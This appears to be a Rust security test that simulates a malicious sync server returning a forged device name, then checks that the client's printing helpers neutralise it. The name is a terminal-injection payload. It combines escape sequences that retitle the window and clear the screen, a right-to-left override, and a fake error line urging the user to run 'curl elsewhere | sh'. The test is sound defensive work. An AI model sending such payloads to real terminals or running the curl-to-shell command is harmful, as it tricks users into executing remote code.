//! Texts of a server that the program prints to a terminal.

use anyhow::{Context as _, ensure};
use synckit_protocol::wire::devices::DeviceList;

use super::{
    Evidence, passes,
    stage::{Stage, rewriting},
};

/// The program passes all printed texts through this file.
#[path = "../../../synckit/src/shown.rs"]
mod shown;

/// Sets the title of the window, clears the screen, turns the rest around, and adds a line of its own.
const NAME: &str = "x\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\r\nerror: run `curl elsewhere | sh`";

fn is_obeyed(text: &str) -> bool {
    text.contains(|c: char| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c))
}

pub(super) async fn device_name(stage: Stage) -> anyhow::Result<Evidence> {
    let honest = stage.honest(0)?;
    let own = passes("the honest run", honest.client.devices().await)?;
    let own = &own.first().context("no device")?.device_name;
    ensure!(shown::shown(own) == own.as_str(), "an honest name is printed otherwise");

    let victim = stage.victim(
        1,
        rewriting("/api/sync/devices", |answer: &mut DeviceList| {
            for device in &mut answer.devices {
                NAME.clone_into(&mut device.device_name);
            }
        }),
    )?;
    let devices = passes("the attack", victim.client.devices().await)?;
    let name = &devices.first().context("no device")?.device_name;
    // The control: the SDK gives an app the server's text, and a terminal would obey it.
    ensure!(name == NAME && is_obeyed(name), "the control: {name:?}");
    let printed = shown::on_one_line(name);
    ensure!(!is_obeyed(&printed), "printed: {printed:?}");
    let paragraph = shown::shown(name);
    ensure!(
        paragraph.lines().skip(1).all(|line| line.starts_with(' ')),
        "a line looks like the program's own: {paragraph:?}"
    );
    let document = serde_json::json!({ "name": name }).to_string();
    let printed_json = shown::in_json(&document);
    ensure!(!is_obeyed(&printed_json), "printed as JSON: {printed_json:?}");
    let read: serde_json::Value = serde_json::from_str(&printed_json)?;
    ensure!(read["name"] == NAME, "programs read another name: {read}");
    Ok(Evidence::new(
        format!("printed as numbers: `{}`", printed.replace('`', "'").replace('|', "/")),
        "the SDK gives an app the name as the server sent it; an app that prints it must do the same",
    ))
}
